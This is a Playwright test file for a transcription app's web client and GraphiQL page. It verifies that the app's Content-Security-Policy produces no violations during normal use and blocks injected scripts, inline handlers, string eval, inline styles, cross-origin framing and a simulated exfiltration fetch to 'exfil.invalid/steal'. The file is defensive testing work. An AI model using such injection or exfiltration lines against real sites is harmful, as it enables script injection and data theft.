/**
 * The web client and GraphiQL in headless Chromium under the server's real security headers,
 * with ZERO Content-Security-Policy violations while they do their work: the client renders,
 * uploads a recording, shows live progress and the diarized transcript and plays the audio;
 * GraphiQL loads its docs, runs a query over HTTP, validates in its web worker and runs a
 * subscription over graphql-ws. Then the negative side: the policy is enforced, not merely sent
 * (an injected inline script, an inline event handler, eval, an inline style, a request to
 * another origin and framing by another origin are all blocked and reported).
 *
 * Violations are collected from `securitypolicyviolation` events (an init script on every
 * document) and from console messages of the pages and their workers.
 */
import path from 'node:path';
import type { Page } from 'playwright-core';
import {
  clientIsBuilt,
  launchBrowser,
  openGraphiqlDocs,
  type BrowserSession,
} from '../helpers/browser.js';
import { FIXTURES_DIR, manifest, startTestApp, type TestApp } from '../helpers/harness.js';

let t: TestApp;
let b: BrowserSession;

/** One reported violation, as the page's `SecurityPolicyViolationEvent` describes it. */
interface Violation {
  directive: string;
  blocked: string;
  source: string;
  disposition: string;
}

/** Violations seen via events, and CSP messages seen on the console (page and workers). */
const violations: Violation[] = [];
const cspConsole: string[] = [];
const workerErrors: string[] = [];

/** The parts of the DOM the page functions below use (this file compiles without the DOM lib). */
interface AudioLike {
  currentTime: number;
  paused: boolean;
  readyState: number;
  currentSrc: string;
  play(): Promise<void>;
  pause(): void;
}
interface ElementLike {
  textContent: string | null;
  setAttribute(name: string, value: string): void;
}
interface ViolationEventLike {
  effectiveDirective: string;
  blockedURI: string;
  sourceFile: string;
  lineNumber: number;
  disposition: string;
}
declare const document: {
  addEventListener(type: string, fn: (e: ViolationEventLike) => void, capture: boolean): void;
  createElement(tag: string): ElementLike;
  body: { append(el: ElementLike): void };
};
/** The browser's `setTimeout` also compiles a string of code (an eval sink), unlike Node's. */
type StringTimer = (code: string, ms: number) => void;
declare const window: Record<string, unknown>;
declare function getComputedStyle(el: unknown): { color: string };

const DIALOGUE = path.join(FIXTURES_DIR, 'dialogue-mono.ogg');
const m = manifest('dialogue-mono.ogg');

beforeAll(async () => {
  if (!clientIsBuilt()) throw new Error('dist/client is missing: run `npm run build` first.');
  t = await startTestApp({}, { pollsUntilDone: 8 });
  b = await launchBrowser({ locale: 'kk-KZ' });
  await b.context.exposeBinding('__kazruCsp', (_src, v: Violation) => void violations.push(v));
  // Runs in every document before its own scripts (Playwright injects it outside the page's CSP).
  await b.context.addInitScript(() => {
    document.addEventListener(
      'securitypolicyviolation',
      (e: ViolationEventLike) =>
        void (window.__kazruCsp as (v: unknown) => void)({
          directive: String(e.effectiveDirective),
          blocked: String(e.blockedURI).slice(0, 80),
          source: `${String(e.sourceFile)}:${String(e.lineNumber)}`,
          disposition: String(e.disposition),
        }),
      true,
    );
  });
  const isCsp = (text: string) => /Content Security Policy/i.test(text);
  b.page.on('console', (msg) => {
    if (isCsp(msg.text())) cspConsole.push(msg.text().slice(0, 200));
  });
  b.page.on('worker', (w) =>
    w.on('console', (msg) => {
      if (isCsp(msg.text())) cspConsole.push(`worker ${w.url()}: ${msg.text().slice(0, 200)}`);
      else if (msg.type() === 'error') workerErrors.push(msg.text().slice(0, 200));
    }),
  );
}, 60_000);

afterAll(async () => {
  await b?.close();
  await t?.close();
});

/** Opens `url` and returns the CSP the server sent with the document. */
async function open(page: Page, url: string): Promise<string> {
  const res = await page.goto(url);
  expect(res?.status()).toBe(200);
  return (await res!.headerValue('content-security-policy')) ?? '';
}

/** Everything seen so far, then cleared: the count of each kind, for the log and the asserts. */
function takeViolations() {
  const seen = {
    events: violations.splice(0),
    console: cspConsole.splice(0),
    pageErrors: b.consoleErrors.splice(0),
    workerErrors: workerErrors.splice(0),
  };
  return seen;
}

const phaseTimes: Record<string, number> = {};

test('the client renders, uploads, shows progress and the transcript and plays audio: zero violations', async () => {
  const started = Date.now();
  const { page } = b;
  const policy = await open(page, t.url);
  console.log(`client CSP: ${policy}`);
  expect(policy).toContain("script-src 'self';");
  expect(policy).not.toContain('unsafe-');

  // Upload, and watch the job's progress bar move to 100 over the WebSocket.
  await page.locator('kazru-upload input[type=file]').setInputFiles(DIALOGUE);
  const row = page
    .locator('kazru-job-list li[data-job-id]')
    .filter({ hasText: 'dialogue-mono.ogg' });
  await row.waitFor();
  const jobId = (await row.getAttribute('data-job-id'))!;
  const seen = new Set<number>();
  const deadline = Date.now() + 50_000;
  while ((await row.getAttribute('data-status')) !== 'COMPLETED') {
    if (Date.now() > deadline) throw new Error('job did not complete in the page');
    const v = await row
      .locator('[role=progressbar]')
      .getAttribute('aria-valuenow', { timeout: 1000 })
      .catch(() => null);
    if (v !== null) seen.add(Number(v));
    await page.waitForTimeout(50);
  }
  await row.locator('[role=progressbar][aria-valuenow="100"]').waitFor();
  seen.add(100);
  // The bar's width is set through the CSSOM (no inline style attribute): it is really drawn.
  const fill = await row
    .locator('[role=progressbar] .bar-fill')
    .evaluate((el: { style: { width: string } }) => el.style.width);
  expect(fill).toBe('100%');
  const progress = [...seen].sort((a, b) => a - b);
  expect(progress.length).toBeGreaterThan(1);
  expect(b.requests.some((u) => u.startsWith(t.wsUrl))).toBe(true);

  // The transcript: every utterance, in order, speakers in their own colours.
  await row.getByRole('link').last().click();
  await page.waitForURL(`**/#/jobs/${jobId}`);
  const segs = page.locator('kazru-transcript .seg');
  await segs.nth(m.utterances.length - 1).waitFor();
  expect(await page.locator('kazru-transcript .seg .text').allTextContents()).toEqual(
    m.utterances.map((u) => u.text),
  );
  const colours = await page
    .locator('kazru-transcript .seg .speaker-name')
    .evaluateAll((els) => els.map((e) => getComputedStyle(e).color));
  expect(colours[0]).not.toBe(colours[1]);

  // The audio plays from this server (media-src 'self').
  const audio = page.locator('kazru-transcript audio');
  await audio.evaluate((a: AudioLike) => a.play());
  const deadlineAudio = Date.now() + 15_000;
  while (!(await audio.evaluate((a: AudioLike) => !a.paused && a.currentTime > 0.5))) {
    if (Date.now() > deadlineAudio) throw new Error('audio never played');
    await page.waitForTimeout(100);
  }
  const src = await audio.evaluate((a: AudioLike) => a.currentSrc);
  await audio.evaluate((a: AudioLike) => a.pause());
  expect(new URL(src).origin).toBe(t.url);

  const v = takeViolations();
  phaseTimes.client = Date.now() - started;
  console.log(
    `client: progress seen ${progress.join(',')} %, ${m.utterances.length} segments, audio played from ${new URL(src).pathname}; ` +
      `${v.events.length} CSP violation events, ${v.console.length} CSP console messages, ` +
      `${v.pageErrors.length} console errors, ${v.workerErrors.length} worker errors (${phaseTimes.client} ms)`,
  );
  expect(v).toEqual({ events: [], console: [], pageErrors: [], workerErrors: [] });
}, 90_000);

/** Text of GraphiQL's result pane (Monaco renders it as lines of spans). */
async function resultText(page: Page): Promise<string> {
  return (await page.locator('.graphiql-response').innerText()).replace(/\s+/g, ' ');
}

async function waitForResult(page: Page, pattern: RegExp, timeoutMs = 20_000): Promise<string> {
  const deadline = Date.now() + timeoutMs;
  let text = '';
  while (Date.now() < deadline) {
    text = await resultText(page).catch(() => '');
    if (pattern.test(text)) return text;
    await page.waitForTimeout(200);
  }
  throw new Error(`result pane never matched ${pattern}; last text: ${text.slice(0, 300)}`);
}

test('GraphiQL shows the docs, runs a query, validates in its worker, subscribes over WebSocket: zero violations', async () => {
  const started = Date.now();
  const { page } = b;
  const policy = await open(page, `${t.url}/graphiql/`);
  console.log(`GraphiQL CSP: ${policy}`);
  expect(policy).toContain("script-src 'self';");
  expect(policy).not.toContain('unsafe-eval');
  await openGraphiqlDocs(page);
  await page.locator('.graphiql-execute-button').click();
  const result = await waitForResult(page, /"maxUploadBytes":/);
  expect(result).toContain(`"maxUploadBytes": ${t.config.maxUploadBytes}`);

  // The GraphQL language service runs in a module worker: an unknown field gets an error marker.
  await open(page, `${t.url}/graphiql/?query=${encodeURIComponent('{ noSuchField }')}`);
  await page.locator('.graphiql-query-editor .squiggly-error').first().waitFor({ timeout: 20_000 });
  const workers = page.workers().map((w) => path.basename(new URL(w.url()).pathname));

  // A subscription over graphql-ws follows a job to COMPLETED.
  const up = await t.upload(DIALOGUE);
  const id = (up.data as { uploadAudio: { id: string } }).uploadAudio.id;
  const query = 'subscription P($id: ID!) { jobProgress(id: $id) { status progress } }';
  await open(
    page,
    `${t.url}/graphiql/?query=${encodeURIComponent(query)}&variables=${encodeURIComponent(
      JSON.stringify({ id }),
    )}`,
  );
  await page.locator('.graphiql-execute-button').click();
  await waitForResult(page, /"status": "COMPLETED"/, 45_000);
  expect(b.requests.filter((u) => u === t.wsUrl).length).toBeGreaterThan(0);

  const v = takeViolations();
  phaseTimes.graphiql = Date.now() - started;
  console.log(
    `GraphiQL: docs, query, worker diagnostics (workers: ${workers.join(', ')}), subscription to COMPLETED; ` +
      `${v.events.length} CSP violation events, ${v.console.length} CSP console messages, ` +
      `${v.pageErrors.length} console errors, ${v.workerErrors.length} worker errors (${phaseTimes.graphiql} ms)`,
  );
  expect(workers.length).toBeGreaterThan(0);
  expect(v).toEqual({ events: [], console: [], pageErrors: [], workerErrors: [] });
}, 90_000);

test('the policy is enforced: injected script, handler, eval, style, foreign fetch and framing are blocked and reported', async () => {
  const { page } = b;
  await open(page, t.url);
  await page.locator('kazru-upload input[type=file]').waitFor();
  takeViolations();

  const outcome = await page.evaluate(async () => {
    const body = document.body;
    // 1. An injected inline <script> (what a stored-XSS payload would add).
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true';
    body.append(s);
    // 2. An inline event handler attribute.
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__handlerRan = true');
    img.setAttribute('src', 'data:,not-an-image');
    body.append(img);
    // 3. eval-like string compilation. (Direct eval() here would be allowed: DevTools lifts the
    // eval check for code it evaluates itself; a string timer compiles later, as page code.)
    (setTimeout as unknown as StringTimer)('window.__evalRan = true', 0);
    // 4. An inline style attribute.
    const div = document.createElement('div');
    div.setAttribute('style', 'color: rgb(255, 0, 0)');
    body.append(div);
    const styled = getComputedStyle(div).color === 'rgb(255, 0, 0)';
    // 5. A request to another origin (data exfiltration).
    let fetchResult = 'sent';
    try {
      await fetch('http://exfil.invalid/steal');
    } catch (e) {
      fetchResult = (e as Error).name;
    }
    await new Promise((r) => setTimeout(r, 300));
    return {
      inlineRan: window.__inlineRan === true,
      handlerRan: window.__handlerRan === true,
      evalRan: window.__evalRan === true,
      styled,
      fetchResult,
    };
  });
  await page.waitForTimeout(300);
  const injected = takeViolations();
  const directives = injected.events.map((v) => v.directive).sort();
  console.log(
    `injected into the client: inline script ran=${outcome.inlineRan}, handler ran=${outcome.handlerRan}, ` +
      `string eval ran=${outcome.evalRan}, inline style applied=${outcome.styled}, fetch to another origin -> ${outcome.fetchResult}; ` +
      `${injected.events.length} violation events (${directives.join(', ')}), ${injected.console.length} CSP console messages`,
  );
  expect(outcome).toEqual({
    inlineRan: false,
    handlerRan: false,
    evalRan: false,
    styled: false,
    fetchResult: 'TypeError',
  });
  for (const d of [
    'script-src-elem',
    'script-src-attr',
    'script-src',
    'style-src-attr',
    'connect-src',
  ]) {
    expect(directives).toContain(d);
  }
  expect(injected.events.every((v) => v.disposition === 'enforce')).toBe(true);

  // GraphiQL's wider policy still refuses script: only styles and data: fonts are widened.
  await open(page, `${t.url}/graphiql/`);
  await page.locator('.graphiql-execute-button').waitFor({ timeout: 20_000 });
  takeViolations();
  const graphiqlRan = await page.evaluate(async () => {
    const s = document.createElement('script');
    s.textContent = 'window.__inlineRan = true';
    document.body.append(s);
    (setTimeout as unknown as StringTimer)('window.__evalRan = true', 0);
    await new Promise((r) => setTimeout(r, 300));
    return { inlineRan: window.__inlineRan === true, evalRan: window.__evalRan === true };
  });
  const inGraphiql = takeViolations().events.map((v) => v.directive);
  console.log(
    `injected into GraphiQL: inline script ran=${graphiqlRan.inlineRan}, string eval ran=${graphiqlRan.evalRan}; violation events: ${inGraphiql.join(', ')}`,
  );
  expect(graphiqlRan).toEqual({ inlineRan: false, evalRan: false });
  expect(inGraphiql).toEqual(expect.arrayContaining(['script-src-elem', 'script-src']));

  // Framing by another origin: frame-ancestors 'none' (and X-Frame-Options: DENY) refuse it.
  const framer = await b.context.newPage();
  const consoleOfFramer: string[] = [];
  framer.on('console', (msg) => consoleOfFramer.push(msg.text()));
  await framer.setContent(`<iframe src="${t.url}/" width="400" height="300"></iframe>`);
  await framer.waitForTimeout(1000);
  const child = framer.frames().find((f) => f !== framer.mainFrame());
  const framedContent = child ? await child.locator('kazru-app').count() : 0;
  const refused = consoleOfFramer.filter((c) => /frame-ancestors|X-Frame-Options/.test(c));
  console.log(
    `framed from another origin: client rendered in the frame=${framedContent > 0}; refusal messages: ${refused.length} (${refused[0]?.slice(0, 120)})`,
  );
  expect(framedContent).toBe(0);
  expect(refused.length).toBeGreaterThan(0);
  await framer.close();
  takeViolations();
}, 30_000);
